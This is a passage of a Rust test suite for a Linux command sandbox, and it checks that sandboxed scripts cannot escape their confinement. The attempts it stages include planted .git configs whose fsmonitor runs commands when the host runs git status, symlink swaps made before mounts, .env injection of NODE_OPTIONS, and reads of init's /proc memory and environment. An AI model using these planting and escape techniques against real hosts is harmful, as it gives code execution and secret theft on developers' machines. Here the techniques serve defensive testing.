    let marker = w.outside.join("fsmonitor-ran");
    let script = format!(
        "{} && mkdir -p sub/.git/objects sub/.git/refs/heads sub/inner && \
         echo 'ref: refs/heads/master' | tee sub/.git/HEAD && \
         printf 'gitdir: ../../evil\\n' | tee sub/inner/.git && \
         GIT_DIR=sub/.git GIT_WORK_TREE=sub git update-index --add --cacheinfo 160000,{head},inner && \
         git update-index --add --cacheinfo 160000,{head},sub; echo PLANTED",
        evil_repository(&marker, "../sub/inner")
    );
    host_git_obeys_nothing_planted(&w, &script, &marker, &["evil", "sub"], |o| {
        assert!(!exists(&w.ws.join("sub/inner/.git")), "{}", text(o));
    });
}

#[test]
fn a_directory_swapped_for_a_symlink_before_its_mount_is_not_followed() {
    // Another sandbox in the same workspace can swap a writable tree for a
    // symlink between the plan and init's mount: followed, the bind would
    // make the host's /tmp the sandbox's. Here the test swaps it while
    // init waits before its mounts (a debug build's test hook).
    let w = World::new();
    std::fs::create_dir(w.ws.join("docs")).unwrap();
    let p = w.policy("writable_globs = [\"docs/**\"]\n");
    let marker = w.outside.join("written-through-the-swap");
    let script = format!("touch {} && echo WROTE", marker.display());
    let o = w.paused_before_mounts(&["run", "--policy", p.to_str().unwrap(), "-c", &script], || {
        // `docs` -> `../../../tmp`: from the host's side of the mount (under
        // the old root) the host's /tmp, from the sandbox's side its own.
        let ups = w.ws.components().count() - 1;
        std::fs::rename(w.ws.join("docs"), w.ws.join("docs.real")).unwrap();
        std::os::unix::fs::symlink(format!("{}tmp", "../".repeat(ups)), w.ws.join("docs")).unwrap();
    });
    assert!(!exists(&marker), "the sandbox wrote the host's /tmp: {}", text(&o));
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    // Control: the write itself, without the sandbox, lands.
    let c = w.control(&script);
    assert!(exists(&marker), "control: {}", text(&c));
}

#[test]
fn a_read_only_path_swapped_for_a_link_before_its_mount_is_not_followed() {
    // The plan resolves a read-only path on the host; a link put on its way
    // between the plan and init's mount (by a run in another workspace on
    // that path, say) is refused, not followed. Here the test swaps it while
    // init waits before its mounts (a debug build's test hook).
    let base = host_dir();
    let (sdk, kept, secret) = (
        base.path().join("sdk"),
        base.path().join("sdk.kept"),
        base.path().join("secret"),
    );
    std::fs::create_dir(&sdk).unwrap();
    std::fs::create_dir(&secret).unwrap();
    std::fs::write(secret.join("key.txt"), "TOPSECRET\n").unwrap();
    let w = World::new();
    let p = w.policy(&format!("read_only_paths = [{sdk:?}]\n"));
    let script = format!("cat {}/key.txt; echo RAN", sdk.display());
    let o = w.paused_before_mounts(&["run", "--policy", p.to_str().unwrap(), "-c", &script], || {
        std::fs::rename(&sdk, &kept).unwrap();
        std::os::unix::fs::symlink(&secret, &sdk).unwrap();
    });
    assert!(!stdout(&o).contains("TOPSECRET"), "{}", text(&o));
    assert!(
        !stdout(&o).contains("RAN"),
        "nothing runs on a plan that no longer holds: {}",
        text(&o)
    );
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(text(&o).contains("a symlink is on its way now"), "{}", text(&o));
    // Control: through the link, outside the sandbox, the secret is there.
    let c = w.control(&format!("cat {}/key.txt", sdk.display()));
    assert!(stdout(&c).contains("TOPSECRET"), "control");
}

#[test]
fn the_terminal_is_left_as_it_was() {
    // The command shares the person's terminal: echo turned off (or the
    // terminal left raw) stayed so after it ended.
    use nix::sys::termios::{tcgetattr, LocalFlags};
    let w = World::new();
    let pty = nix::pty::openpty(None, None).unwrap();
    let echo = |fd: &std::os::fd::OwnedFd| tcgetattr(fd).unwrap().local_flags.contains(LocalFlags::ECHO);
    assert!(echo(&pty.slave));
    let terminal = || Stdio::from(pty.slave.try_clone().unwrap());
    let o = w
        .command(&["run", "-c", "stty -echo && echo OFF"])
        .stdin(terminal())
        .output()
        .unwrap();
    assert!(stdout(&o).contains("OFF"), "{}", text(&o));
    assert!(echo(&pty.slave), "echo is still off after the run: {}", text(&o));
    // Control: the same command run directly leaves it off.
    let c = Command::new("bash")
        .args(["-c", "stty -echo && echo OFF"])
        .stdin(terminal())
        .output()
        .unwrap();
    assert!(stdout(&c).contains("OFF"), "control: {}", text(&c));
    assert!(!echo(&pty.slave), "control: echo is on");
}

#[test]
fn an_index_that_is_a_symlink_does_not_land() {
    // `.git/index` made a symlink to an index of the run's making, which
    // names a gitlink to a checkout whose `.git` file points at a repository
    // of the run's making.
    let w = World::new();
    let head = committed_repository(&w);
    let marker = w.outside.join("fsmonitor-ran");
    let script = format!(
        "{} && mkdir -p sub && printf 'gitdir: ../evil\\n' | tee sub/.git && cp .git/index myidx && \
         GIT_INDEX_FILE=$PWD/myidx git update-index --add --cacheinfo 160000,{head},sub && \
         ln -sf ../myidx .git/index; echo PLANTED",
        evil_repository(&marker, "../sub")
    );
    host_git_obeys_nothing_planted(&w, &script, &marker, &["evil", "sub"], |o| {
        let index = std::fs::symlink_metadata(w.ws.join(".git/index"));
        assert!(index.is_ok_and(|m| m.is_file()), "{}", text(o));
    });
}

#[test]
fn a_split_index_in_a_repository_the_run_makes_does_not_stay() {
    // A nested repository the run makes has no overlay of its own: its
    // split index, naming a gitlink with a `.git` file of the run's making,
    // cannot be read, and is moved aside.
    let w = World::new();
    let head = committed_repository(&w);
    let marker = w.outside.join("fsmonitor-ran");
    let script = format!(
        "{} && git init -q n && git -C n update-index --split-index && mkdir -p n/x && \
         printf 'gitdir: ../../evil\\n' | tee n/x/.git && \
         git -C n update-index --add --cacheinfo 160000,{head},x && \
         git update-index --add --cacheinfo 160000,{head},n; echo PLANTED",
        evil_repository(&marker, "../n/x")
    );
    host_git_obeys_nothing_planted(&w, &script, &marker, &["evil", "n"], |_| {});
}

#[test]
fn a_policy_named_through_a_symlink_in_the_workspace_is_refused() {
    // The file is read-only inside; the link is not, and the next run would
    // read whatever it points at.
    let w = World::new();
    w.write("cfg/real.toml", "version = 1\ndeny = [\"curl\"]\ndefault = \"allow\"\n");
    std::os::unix::fs::symlink("cfg/real.toml", w.ws.join("policy.toml")).unwrap();
    let o = w.tx(&["run", "--policy", "policy.toml", "--", "/bin/true"]);
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(
        text(&o).contains("cfg/real.toml"),
        "names the file to pass: {}",
        text(&o)
    );
    let o = w.tx(&["run", "--policy", "cfg/real.toml", "--", "/bin/true"]);
    assert!(o.status.success(), "{}", text(&o));
    // A linked directory on the way, and a link outside leading to the link inside.
    std::os::unix::fs::symlink("cfg", w.ws.join("cfglink")).unwrap();
    let outside = w.outside.join("via.toml");
    std::os::unix::fs::symlink(w.ws.join("policy.toml"), &outside).unwrap();
    for named in [
        "cfglink/real.toml",
        "./cfg/../cfglink/real.toml",
        outside.to_str().unwrap(),
    ] {
        let o = w.tx(&["run", "--policy", named, "--", "/bin/true"]);
        assert_eq!(o.status.code(), Some(125), "{named}: {}", text(&o));
    }
    // `..` is no link: a policy beside the workspace, named from inside it,
    // and a path that leaves a directory and comes back.
    std::fs::write(w.root.path().join("beside.toml"), "version = 1\ndefault = \"allow\"\n").unwrap();
    for named in ["../beside.toml", "cfg/../cfg/real.toml"] {
        let o = w.tx(&["run", "--policy", named, "--", "/bin/true"]);
        assert!(o.status.success(), "{named}: {}", text(&o));
    }
    // Control: what a run could do to the link.
    let c = w.control("printf 'version = 1\\n' > evil.toml && ln -sf evil.toml policy.toml");
    assert!(c.status.success(), "{}", text(&c));
    assert_eq!(
        std::fs::read_link(w.ws.join("policy.toml")).unwrap(),
        std::path::Path::new("evil.toml")
    );
}

#[test]
fn a_secret_renamed_away_before_its_mask_is_mounted_stays_hidden() {
    // Another sandbox in the same workspace renames the secret's directory
    // and puts a decoy where it was, while init waits before its mounts (a
    // debug build's test hook): the mask would land on the decoy, and the
    // real secret be read under its new name.
    let w = World::new();
    w.write("conf/server.pem", "-----BEGIN PRIVATE KEY----- s3cret\n");
    let o = w.paused_before_mounts(&["run", "-c", "cat conf.real/server.pem; echo RAN"], || {
        std::fs::rename(w.ws.join("conf"), w.ws.join("conf.real")).unwrap();
        w.write("conf/server.pem", "decoy\n");
    });
    assert!(!stdout(&o).contains("s3cret"), "{}", text(&o));
    assert!(
        !stdout(&o).contains("RAN"),
        "nothing runs on a plan that no longer holds: {}",
        text(&o)
    );
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    // Control: outside the sandbox the renamed secret reads.
    let c = w.control("cat conf.real/server.pem");
    assert!(stdout(&c).contains("s3cret"), "control: {}", text(&c));
}

#[test]
fn a_linked_worktrees_submodule_pointer_is_protected() {
    // The workspace is a linked worktree (its `.git` a file naming a git
    // directory outside): the gitlinks of the index there still name
    // checkouts here, whose `.git` files git follows.
    let w = World::new();
    let main = w.outside.join("main");
    std::fs::create_dir_all(&main).unwrap();
    let git = |dir: &std::path::Path, args: &[&str]| {
        let o = Command::new("git")
            .args(["-c", "user.email=t@t", "-c", "user.name=t"])
            .args(args)
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(o.status.success(), "git {args:?}: {}", text(&o));
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    git(&main, &["init", "-q"]);
    std::fs::write(main.join("a"), "a\n").unwrap();
    git(&main, &["add", "a"]);
    git(&main, &["commit", "-qm", "init"]);
    let head = git(&main, &["rev-parse", "HEAD"]);
    std::fs::remove_dir(&w.ws).unwrap();
    git(&main, &["worktree", "add", "-q", w.ws.to_str().unwrap()]);
    let pointer = format!("gitdir: {}\n", main.join(".git").display());
    w.write("lib/.git", &pointer);
    git(
        &w.ws,
        &["update-index", "--add", "--cacheinfo", &format!("160000,{head},lib")],
    );
    let script = "printf 'gitdir: ../evil\\n' | tee lib/.git; echo TRIED";
    let o = w.run(script);
    assert!(stdout(&o).contains("TRIED"), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.ws.join("lib/.git")).unwrap(),
        pointer,
        "{}",
        text(&o)
    );
    // Control: without the sandbox it is rewritten.
    let c = w.control(script);
    assert_eq!(
        std::fs::read_to_string(w.ws.join("lib/.git")).unwrap(),
        "gitdir: ../evil\n",
        "control: {}",
        text(&c)
    );
}

/// Names the create guard refuses in a bind-mounted workspace, and what a
/// script makes of each: one attempt per line, `OK name` or `NO name errno`.
const PLANT_PROTECTED: &str = r#"
import os, sys
def attempt(name, make):
    try:
        make()
        print("OK", name)
    except OSError as e:
        print("NO", name, e.errno)
os.makedirs("app", exist_ok=True)
attempt(".env", lambda: open(".env", "w").write("NODE_OPTIONS=--require /tmp/evil.js"))
attempt("app/.env.local", lambda: os.close(os.open("app/.env.local", os.O_CREAT | os.O_WRONLY, 0o644)))
attempt(".tether", lambda: os.mkdir(".tether"))
attempt(".git (file)", lambda: open(".git", "w").write("gitdir: evil\n"))
attempt(".git (symlink)", lambda: os.symlink("/tmp", ".git"))
os.makedirs("stage/hooks", exist_ok=True)
attempt(".git (moved dir)", lambda: os.rename("stage", ".git"))
attempt(".git/config", lambda: (os.makedirs(".git", exist_ok=True), open(".git/config", "w").write("[core]\n\tfsmonitor = touch /tmp/pwned\n")))
attempt(".git/hooks", lambda: os.makedirs(".git/hooks"))
open("decoy", "w").write("x")
attempt(".env.production (link)", lambda: os.link("decoy", ".env.production"))
attempt(".env.test (rename)", lambda: os.rename("decoy", ".env.test"))
os.symlink(".env.dangling", "pointer")
attempt(".env.dangling (through a symlink)", lambda: open("pointer", "w").write("X=1"))
attempt(".env (through /proc/self/cwd)", lambda: open("/proc/self/cwd/.env", "w").write("X=1"))
attempt(".env (through /dev/fd)", lambda: open("/dev/fd/%d/.env" % os.open(".", os.O_RDONLY), "w").write("X=1"))
open("made-attempts", "w").write("done")
sys.stdout.flush()
import time
for _ in range(200):
    if os.path.exists("release"):
        break
    time.sleep(0.05)
"#;

/// What `PLANT_PROTECTED` tries to make (in a workspace with no repository:
/// `.git` itself is refused at the top).
const PLANTED: &[&str] = &[
    ".env",
    "app/.env.local",
    ".tether",
    ".git",
    ".env.production",
    ".env.test",
    ".env.dangling",
];

#[test]
fn protected_names_never_exist_on_the_host_while_the_run_lasts() {
    // In a bind-mounted workspace the host sees every write at once: a
    // `.git/config` there, even for a second, is obeyed by any `git status`
    // (an editor runs one every few seconds). Checked from the host while
    // the run still goes on, then after.
    let w = World::new();
    w.write("plant.py", PLANT_PROTECTED);
    let child = w
        .command(&["run", "--", "python3", "plant.py"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let made = w.ws.join("made-attempts");
    assert!(
        eventually(|| exists(&made)),
        "the script never got through its attempts"
    );
    let during: Vec<&str> = PLANTED
        .iter()
        .copied()
        .filter(|p| std::fs::symlink_metadata(w.ws.join(p)).is_ok())
        .collect();
    std::fs::write(w.ws.join("release"), "").unwrap();
    let o = child.wait_with_output().unwrap();
    assert!(
        during.is_empty(),
        "present on the host during the run: {during:?}\n{}",
        text(&o)
    );
    let out = stdout(&o);
    for line in out.lines() {
        assert!(line.starts_with("NO "), "made inside: {line}\n{}", text(&o));
        // EPERM, not ENOENT or EACCES: the refusal, not a lookup that failed.
        assert!(line.ends_with(" 1"), "{line}\n{}", text(&o));
    }
    assert_eq!(out.lines().count(), 13, "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(text(&o).contains("tried to make protected paths"), "{}", text(&o));
    for p in PLANTED {
        assert!(!exists(&w.ws.join(p)), "{p} is there after the run: {}", text(&o));
    }
    assert!(
        names_containing(&w.ws, "quarantine").is_empty(),
        "nothing was made to move aside"
    );
    // Control: without the sandbox every one of them is made.
    for p in [
        "made-attempts",
        "release",
        "pointer",
        "decoy",
        ".env.production",
        ".env.test",
    ] {
        let _ = std::fs::remove_file(w.ws.join(p));
    }
    for d in ["stage", ".git"] {
        let _ = std::fs::remove_dir_all(w.ws.join(d));
    }
    std::fs::write(w.ws.join("release"), "").unwrap();
    let c = w.control("python3 plant.py");
    // The `.git` file made first stands in the way of the other `.git` tries.
    let made_outside = stdout(&c).lines().filter(|l| l.starts_with("OK ")).count();
    assert!(made_outside >= 9, "control: {}", text(&c));
    assert!(
        exists(&w.ws.join(".env")) && exists(&w.ws.join(".tether")),
        "control: {}",
        text(&c)
    );
}

#[test]
fn a_path_rewritten_while_the_guard_judges_it_never_makes_a_protected_name() {
    // The guard reads the path out of the command's memory; another thread
    // of the command rewrites it meanwhile, from `ok-N` to `.env` and back.
    // If the kernel ever read the path again after the guard judged it, a
    // `.env` would be made.
    let w = World::new();
    w.write(
        "race.py",
        r#"
import ctypes, os, threading, time
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(b"ok-0\0\0\0\0", 16)
stop = False
def flip():
    while not stop:
        ctypes.memmove(buf, b".env\0", 5)
        ctypes.memmove(buf, b"ok-0\0", 5)
threading.Thread(target=flip, daemon=True).start()
made = 0
end = time.time() + 2.0
while time.time() < end:
    fd = libc.open(buf, os.O_CREAT | os.O_WRONLY, 0o644)
    if fd >= 0:
        made += 1
        os.close(fd)
stop = True
print("opened", made)
print("env exists", os.path.exists(".env"))
"#,
    );
    let o = w.run("python3 race.py");
    assert!(stdout(&o).contains("opened"), "{}", text(&o));
    assert!(!exists(&w.ws.join(".env")), "a .env was made: {}", text(&o));
    assert!(names_containing(&w.ws, "quarantine").is_empty(), "{}", text(&o));
    assert!(exists(&w.ws.join("ok-0")), "the ordinary name was made: {}", text(&o));
    // Control: without the sandbox the race makes `.env` (in two seconds
    // of tries, every time here).
    let c = w.control("python3 race.py");
    assert!(exists(&w.ws.join(".env")), "control: {}", text(&c));
}

#[test]
fn the_guard_never_opens_inits_proc_entries_for_the_command() {
    // The guard is a thread of init, which holds capabilities in the
    // sandbox's namespace: `/proc/1/mem` opened by the guard would be
    // init's memory, writable. Named directly, through a directory
    // descriptor, or through a symlink.
    let w = World::new();
    w.write(
        "init.py",
        r#"
import os
def attempt(name, f):
    try:
        fd = f()
        print("OPENED", name)
        os.close(fd)
    except OSError as e:
        print("NO", name, e.errno)
# Read-only: Landlock refuses writes under /proc to anyone of the sandbox,
# the guard included; reading init's memory or reopening its descriptors
# is what the guard itself would be allowed (a thread of init).
R = os.O_RDONLY | os.O_CREAT
attempt("/proc/1/mem", lambda: os.open("/proc/1/mem", R))
attempt("dirfd mem", lambda: os.open("mem", R, dir_fd=os.open("/proc/1", os.O_RDONLY)))
attempt("dirfd fd/0", lambda: os.open("fd/0", R, dir_fd=os.open("/proc/1", os.O_RDONLY)))
os.symlink("/proc/1/environ", "link")
attempt("symlink", lambda: os.open("link", R))
attempt("/proc/1/task/1/mem", lambda: os.open("/proc/1/task/1/mem", R))
# Control inside: the command's own entries go through the same guard.
attempt("/proc/self/mem", lambda: os.open("/proc/self/mem", R))
"#,
    );
    let o = w.run("python3 init.py");
    let out = stdout(&o);
    for name in [
        "/proc/1/mem",
        "dirfd mem",
        "dirfd fd/0",
        "symlink",
        "/proc/1/task/1/mem",
    ] {
        assert!(out.contains(&format!("NO {name} ")), "{name}: {}", text(&o));
    }
    assert!(out.contains("OPENED /proc/self/mem"), "control: {}", text(&o));
}

#[test]
fn what_the_guard_makes_is_what_the_kernel_would_make() {
    // Everything a command makes in the workspace goes through the guard:
    // modes after the umask, symlinks followed to a new file, hard links
    // (one through /proc/self), renames, relative paths from a deep working
    // directory, descriptors' close-on-exec flag, /dev/stdout on a pipe.
    let w = World::new();
    let script = r#"
import os, stat, subprocess
os.umask(0o027)
os.makedirs("a/b/c", 0o777)
os.chdir("a/b/c")
open("deep.txt", "w").write("deep")
os.chdir(os.environ["PWD"])
os.symlink("target.txt", "link")
open("link", "w").write("through the link")
os.link("/proc/self/cwd/target.txt", "a/linked-through-proc", follow_symlinks=True)
os.close(os.open("target.txt", os.O_PATH | os.O_CREAT))
try:
    os.open("no-such", os.O_PATH | os.O_CREAT)
except FileNotFoundError:
    print("O_PATH makes nothing")
os.link("target.txt", "hard")
os.rename("hard", "a/hard-moved")
fd = os.open("cloexec.txt", os.O_CREAT | os.O_WRONLY | os.O_CLOEXEC, 0o666)
print("cloexec", bool(os.get_inheritable(fd)) is False)
import ctypes, fcntl
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.open(b"inherit.txt", os.O_CREAT | os.O_WRONLY, 0o666)
print("inheritable", fcntl.fcntl(fd, fcntl.F_GETFD) & fcntl.FD_CLOEXEC == 0)
try:
    os.open("target.txt", os.O_CREAT | os.O_EXCL | os.O_WRONLY)
except FileExistsError:
    print("excl EEXIST")
try:
    os.mkdir("a")
except FileExistsError:
    print("mkdir EEXIST")
try:
    os.open("nodir/x", os.O_CREAT | os.O_WRONLY)
except FileNotFoundError:
    print("missing parent ENOENT")
subprocess.run(["bash", "-c", "echo piped > /dev/stdout"], check=True)
"#;
    w.write("make.py", script);
    let o = w.run("python3 make.py | cat");
    assert!(o.status.success(), "{}", text(&o));
    let out = stdout(&o);
    for want in [
        "cloexec True",
        "inheritable True",
        "excl EEXIST",
        "mkdir EEXIST",
        "missing parent ENOENT",
        "piped",
        "O_PATH makes nothing",
    ] {
        assert!(out.contains(want), "{want}: {}", text(&o));
    }
    let mode = |p: &str| {
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(w.ws.join(p)).unwrap().permissions()) & 0o7777
    };
    assert_eq!(mode("a"), 0o750, "umask 027 on mkdir 0777");
    assert_eq!(mode("a/b/c/deep.txt"), 0o640);
    assert_eq!(mode("cloexec.txt"), 0o640);
    assert_eq!(std::fs::read_to_string(w.ws.join("a/b/c/deep.txt")).unwrap(), "deep");
    assert_eq!(
        std::fs::read_to_string(w.ws.join("target.txt")).unwrap(),
        "through the link"
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("a/linked-through-proc")).unwrap(),
        "through the link"
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("a/hard-moved")).unwrap(),
        "through the link"
    );
    // Control: the same script outside gives the same answers.
    let c = w.control("rm -rf a link target.txt cloexec.txt inherit.txt && python3 make.py | cat");
    assert!(c.status.success(), "control: {}", text(&c));
    for want in [
        "cloexec True",
        "inheritable True",
        "excl EEXIST",
        "mkdir EEXIST",
        "missing parent ENOENT",
        "piped",
    ] {
        assert!(stdout(&c).contains(want), "control {want}: {}", text(&c));
    }
}

#[test]
fn inits_files_cannot_be_reopened_through_the_commands_own_descriptors() {
    // An O_PATH descriptor of /proc/1/environ needs no permission; reopened
    // through /proc/self/fd with O_CREAT (which goes to the guard, a thread
    // of init), it would read init's environment: the launcher's, secrets
    // the command's own environment never had.
    let w = World::new();
    w.write(
        "reopen.py",
        r#"
import os
for target in ("/proc/1/environ", "/proc/1/maps"):
    p = os.open(target, os.O_PATH)
    try:
        fd = os.open("/proc/self/fd/%d" % p, os.O_RDONLY | os.O_CREAT)
        print("READ", target, os.read(fd, 1 << 16))
    except OSError as e:
        print("NO", target, e.errno)
    try:
        os.link("/proc/self/fd/%d" % p, "linked", follow_symlinks=True)
        print("LINKED", target)
    except OSError as e:
        print("NO link", target, e.errno)
"#,
    );
    let o = w
        .command(&["run", "--", "python3", "reopen.py"])
        .env("TETHER_TEST_SECRET", "s3cret-of-the-host")
        .output()
        .unwrap();
    let out = stdout(&o);
    assert!(
        !out.contains("s3cret-of-the-host"),
        "init's environment leaked: {}",
        text(&o)
    );
    assert!(
        out.contains("NO /proc/1/environ 13") && out.contains("NO /proc/1/maps 13"),
        "{}",
        text(&o)
    );
    assert!(!out.contains("LINKED"), "{}", text(&o));
    // Control: outside, the same reopen reads the environment of pid 1's
    // stand-in, this very process (the variable is in it).
    let c = Command::new("python3")
        .args(["-c", "import os; p=os.open('/proc/self/environ', os.O_PATH); print(os.read(os.open('/proc/self/fd/%d' % p, os.O_RDONLY), 1<<16))"])
        .env("TETHER_TEST_SECRET", "s3cret-of-the-host")
        .output()
        .unwrap();
    assert!(stdout(&c).contains("s3cret-of-the-host"), "control: {}", text(&c));
}

#[test]
fn a_fifo_that_waits_for_its_reader_stalls_nothing_else() {
    // The guard makes every name of the sandbox; an open of a FIFO that
    // waits for the other end must not make every other file wait with it.
    let w = World::new();
    w.write(
        "fifo.sh",
        "mkfifo p\n(echo hello > p) &\nsleep 0.3\ntimeout 10 touch made && echo TOUCHED\ncat p\nwait\n",
    );
    let started = Instant::now();
    let o = w.run("bash fifo.sh");
    let out = stdout(&o);
    assert!(out.contains("TOUCHED") && out.contains("hello"), "{}", text(&o));
    assert!(o.status.success(), "{}", text(&o));
    assert!(exists(&w.ws.join("made")));
    assert!(started.elapsed() < Duration::from_secs(10), "{:?}", started.elapsed());
}

#[test]
fn unix_sockets_cannot_be_bound_to_protected_names() {
    // bind() makes a name too: a socket named `.env`, or `.git`, would be
    // one on the host. The guard binds the command's socket itself, through
    // the directory it resolved, after judging the name.
    let w = World::new();
    w.write(
        "sock.py",
        r#"
import os, socket
for path in (".env", ".git", "plain.sock", "/tmp/ok.sock"):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.bind(path)
        print("BOUND", path)
    except OSError as e:
        print("NO", path, e.errno)
# A socket bound through the guard works: a client reaches it.
srv = socket.socket(socket.AF_UNIX)
srv.bind("served.sock")
srv.listen(1)
cli = socket.socket(socket.AF_UNIX)
cli.connect("served.sock")
conn, _ = srv.accept()
cli.sendall(b"ping")
print("SERVED", conn.recv(4), srv.getsockname())
t = socket.socket()
t.bind(("127.0.0.1", 0))
print("TCP", t.getsockname()[1] > 0)
"#,
    );
    let o = w.run("python3 sock.py");
    let out = stdout(&o);
    for p in [".env", ".git"] {
        assert!(out.contains(&format!("NO {p} 1")), "{p}: {}", text(&o));
        assert!(
            std::fs::symlink_metadata(w.ws.join(p)).is_err(),
            "{p} exists: {}",
            text(&o)
        );
    }
    for p in ["plain.sock", "/tmp/ok.sock"] {
        assert!(out.contains(&format!("BOUND {p}")), "{p}: {}", text(&o));
    }
    use std::os::unix::fs::FileTypeExt;
    assert!(std::fs::symlink_metadata(w.ws.join("plain.sock"))
        .unwrap()
        .file_type()
        .is_socket());
    assert!(
        out.contains("SERVED b'ping' served.sock") && out.contains("TCP True"),
        "{}",
        text(&o)
    );
    let c =
        w.control("rm -f plain.sock served.sock; python3 sock.py; rm -f .env .git plain.sock served.sock /tmp/ok.sock");
    assert!(stdout(&c).contains("BOUND .env"), "control: {}", text(&c));
}

#[test]
fn the_workspace_itself_cannot_be_made_a_git_directory() {
    // git takes any directory holding `HEAD`, `objects` and `refs` for a git
    // directory: made at the top of a workspace with no `.git`, the host's
    // `git status` there obeys the run's `config` (its fsmonitor runs).
    let w = World::new();
    let marker = w.outside.join("fsmonitor-ran");
    let plant = format!(
        "import os\nos.makedirs('objects', exist_ok=True)\nos.makedirs('refs/heads', exist_ok=True)\n\
         open('config', 'w').write('[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = \"touch {}; false\"\\n')\n\
         try:\n    open('HEAD', 'w').write('ref: refs/heads/main\\n'); print('HEAD made')\nexcept OSError as e:\n    print('NO HEAD', e.errno)\n",
        marker.display()
    );
    w.write("plant.py", &plant);
    let o = w.run("python3 plant.py");
    assert!(stdout(&o).contains("NO HEAD 1"), "{}", text(&o));
    assert!(!exists(&w.ws.join("HEAD")), "{}", text(&o));
    host_git_status(&w);
    assert!(!exists(&marker), "the host's git obeyed the workspace: {}", text(&o));
    // Control: with the `HEAD` made outside the sandbox, the host's git obeys it.
    std::fs::write(w.ws.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    host_git_status(&w);
    assert!(
        exists(&marker),
        "control: the host's git did not take the workspace for a repository"
    );
}

#[test]
fn a_workspace_without_a_repository_is_not_given_one_while_the_run_lasts() {
    // A `.git` made at the top with an index naming a repository the run
    // made below: the host's `git status` recurses into that repository
    // and obeys its `config` (fsmonitor) while the run lasts.
    let w = World::new();
    let marker = w.outside.join("fsmonitor-ran");
    w.write(
        "plant.sh",
        &format!(
            "git init -q evil && git -C evil -c user.name=a -c user.email=b commit -q --allow-empty -m x\n\
             printf '[core]\\n\\tfsmonitor = \"touch {}; false\"\\n' >> evil/.git/config\n\
             mkdir -p .git/objects .git/refs/heads && echo 'ref: refs/heads/main' > .git/HEAD && \
             git update-index --add --cacheinfo 160000,$(git -C evil rev-parse HEAD),evil && echo PLANTED\n\
             sleep 3\n",
            marker.display()
        ),
    );
    let child = w
        .command(&["run", "--", "bash", "plant.sh"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(1500));
    host_git_status(&w);
    let o = child.wait_with_output().unwrap();
    assert!(!stdout(&o).contains("PLANTED"), "{}", text(&o));
    assert!(!exists(&w.ws.join(".git")), "{}", text(&o));
    host_git_status(&w);
    assert!(
        !exists(&marker),
        "the host's git obeyed the run's repository: {}",
        text(&o)
    );
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    // Control: the same script outside; the host's git obeys it.
    let _ = std::fs::remove_dir_all(w.ws.join("evil"));
    let c = w.control("bash plant.sh");
    assert!(stdout(&c).contains("PLANTED"), "control: {}", text(&c));
    host_git_status(&w);
    assert!(exists(&marker), "control: {}", text(&c));
}

#[test]
fn an_open_that_waits_for_a_lease_stalls_nothing_else() {
    // An open with O_CREAT of a file someone holds a lease on waits until
    // the lease is broken (45 s by default); the guard must not make every
    // other name in the sandbox wait with it.
    let w = World::new();
    w.write("leased", "x");
    w.write(
        "lease.py",
        r#"
import fcntl, os, signal, subprocess, sys, time
# The lease holder is told of the open by SIGIO, which would end it.
signal.signal(signal.SIGIO, lambda *_: None)
fd = os.open("leased", os.O_RDONLY)
fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)
opener = subprocess.Popen([sys.executable, "-c", "import os; os.close(os.open('leased', os.O_WRONLY | os.O_CREAT)); print('OPENED', flush=True)"])
time.sleep(0.5)
t = time.time()
open("other", "w").close()
print("OTHER took %.1f s" % (time.time() - t), flush=True)
fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)
opener.wait()
"#,
    );
    let o = w.run("python3 lease.py");
    let out = stdout(&o);
    assert!(out.contains("OPENED"), "{}", text(&o));
    assert!(out.contains("OTHER took 0."), "{}", text(&o));
    assert!(o.status.success(), "{}", text(&o));
}

#[test]
fn a_command_cannot_add_a_landlock_domain_the_guard_would_not_honour() {
    // The guard makes names with the sandbox's Landlock domain; a domain the
    // command added for itself would not bind what the guard makes for it,
    // so with the guard the command may not add one (EPERM), rather than
    // believe itself confined.
    let w = World::new();
    w.write(
        "ll.py",
        r#"
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
MAKE_REG = 1 << 8
attr = struct.pack("QQQ", MAKE_REG, 0, 0)
fd = libc.syscall(444, ctypes.c_char_p(attr), len(attr), 0)
libc.prctl(38, 1, 0, 0, 0)
r = libc.syscall(446, fd, 0)
print("RESTRICT", r, ctypes.get_errno() if r else 0)
try:
    open("made-after", "w").close()
    print("MADE")
except OSError as e:
    print("NOT MADE", e.errno)
"#,
    );
    let o = w.run("python3 ll.py");
    let out = stdout(&o);
    assert!(out.contains("RESTRICT -1 1"), "{}", text(&o));
    assert!(out.contains("MADE"), "{}", text(&o));
    // Control: outside, the domain binds the same open.
    let _ = std::fs::remove_file(w.ws.join("made-after"));
    let c = w.control("python3 ll.py");
    assert!(
        stdout(&c).contains("RESTRICT 0 0") && stdout(&c).contains("NOT MADE 13"),
        "control: {}",
        text(&c)
    );
}

#[test]
fn an_undumpable_process_makes_files_and_its_memory_stays_its_own() {
    // ssh-agent makes itself undumpable: the guard (which reads a caller's
    // memory to learn its path) still serves it, and still reaches no other
    // process: another process's memory read through the guard (an O_CREAT
    // open of /proc/PID/mem) is refused as the kernel refuses it outside.
    let w = World::new();
    w.write(
        "nd.py",
        r#"
import ctypes, os, sys, time
